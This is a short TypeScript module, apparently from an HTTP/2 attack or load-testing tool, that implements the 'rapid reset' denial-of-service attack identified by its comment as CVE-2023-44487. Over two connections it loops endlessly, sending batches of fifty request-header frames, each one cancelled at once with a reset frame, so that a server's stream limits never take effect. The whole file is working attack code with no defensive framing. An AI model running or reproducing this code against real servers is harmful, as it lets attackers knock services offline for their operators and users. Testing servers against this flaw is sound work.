import { type Attack, callHeaders } from "./attack.js";
import { frame, number32, TYPE } from "./frames.js";

const CANCEL = 8;
const AT_ONCE = 50;

/** Calls that are cancelled before they can be answered, so that no limit of streams holds (CVE-2023-44487). */
export const rapidReset: Attack = {
  name: "rapid reset",
  connections: 2,
  async run(connection) {
    await connection.begin();
    for (let stream = 1; connection.going; stream += 2 * AT_ONCE) {
      const frames = [];
      for (let i = 0; i < AT_ONCE; i++) {
        const id = stream + 2 * i;
        frames.push(callHeaders(id), frame(TYPE.reset, 0, id, number32(CANCEL)));
      }
      await connection.write(Buffer.concat(frames), frames.length);
    }
  },
};
